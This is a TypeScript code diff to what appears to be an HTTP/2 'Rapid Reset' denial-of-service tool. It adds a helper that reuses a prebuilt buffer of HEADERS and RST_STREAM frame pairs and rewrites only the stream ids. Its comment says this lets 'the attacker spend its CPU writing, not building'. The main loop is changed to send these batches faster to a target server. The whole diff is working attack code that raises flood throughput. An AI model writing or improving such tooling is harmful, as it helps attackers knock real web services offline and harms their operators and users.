@@ -69,6 +69,17 @@ export function resetPairs(block: Buffer, firstId: number, count: number): Buffe
   return Buffer.concat(parts);
 }
 
+/** `resetPairs(block, firstId, count)` made from a copy of `template` (its output for any first id): only the ids change, so the attacker spends its CPU writing, not building. */
+function renumbered(template: Buffer, block: Buffer, firstId: number, count: number): Buffer {
+  const copy = Buffer.from(template);
+  const pair = 9 + block.length + 13;
+  for (let i = 0; i < count; i++) {
+    copy.writeUInt32BE(firstId + 2 * i, i * pair + 5);
+    copy.writeUInt32BE(firstId + 2 * i, i * pair + 9 + block.length + 5);
+  }
+  return copy;
+}
+
 /** `count` streams from `firstId` (odd), HEADERS only: requests left open. */
 export function openStreams(block: Buffer, firstId: number, count: number): Buffer {
   const parts: Buffer[] = [];
@@ -105,9 +116,11 @@ async function oneSession(options: RapidResetOptions, running: () => boolean, st
   const block = headerBlock(target.host, options.path, options.headers);
   const batch = options.batch ?? 100;
   const open = options.openAfter ?? 0;
+  const template = resetPairs(block, 1, batch);
   let next = 1;
   while (!over && running() && next < 0x7fff0000) {
-    const frames = open === 0 ? resetPairs(block, next, batch) : Buffer.concat([resetPairs(block, next, batch), openStreams(block, next + 2 * batch, open)]);
+    const pairs = renumbered(template, block, next, batch);
+    const frames = open === 0 ? pairs : Buffer.concat([pairs, openStreams(block, next + 2 * batch, open)]);
     const wrote = socket.write(frames);
     next += 2 * (batch + open);
     stats.streams += batch;
